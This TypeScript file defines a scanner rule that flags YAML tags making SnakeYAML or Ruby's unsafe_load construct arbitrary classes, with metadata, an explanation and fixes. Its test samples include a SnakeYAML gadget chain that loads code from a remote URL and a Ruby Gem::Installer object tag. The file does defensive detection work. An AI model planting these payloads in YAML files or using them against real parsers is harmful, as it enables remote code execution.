// YAML tags that make readers in Java or Ruby construct objects.

import { defineRule } from '../../define-rule.ts';

export const foreignObject = defineRule({
  id: 'yaml/foreign-object',
  title: 'This YAML makes a reader construct an object of a class it names',
  category: 'code-execution',
  severity: 'high',
  stability: 'stable',
  since: '0.1',
  cwe: [502, 470],
  owasp: ['ML06:2023', 'LLM03:2025'],
  atlas: ['AML.T0011.000'],
  tags: ['yaml', 'snakeyaml', 'ruby'],
  message: 'A tag at {place} names the {language} class {class}',
  why: 'SnakeYAML before 2.0 and Psych of Ruby with `unsafe_load` construct whatever class a tag names and set its properties. Some classes fetch code or run commands when that happens. js-yaml before 4 compiles functions that a tag holds.',
  fix: [
    'Do not read the file with SnakeYAML before 2.0 or with `unsafe_load`',
    'Ask the author for plain YAML',
  ],
  falsePositives: 'Files that an application wrote for itself, with its own classes.',
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2022-1471'],
  samples: {
    fires: [
      'text(config.yaml): a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://192.0.2.1/"]]]]',
      'text(config.yaml): a: !ruby/object:Gem::Installer {i: x}',
    ],
    silent: ['text(config.yaml): a: !!binary aGVsbG8=', 'text(config.yaml): a: !!set {b, c}'],
  },
});
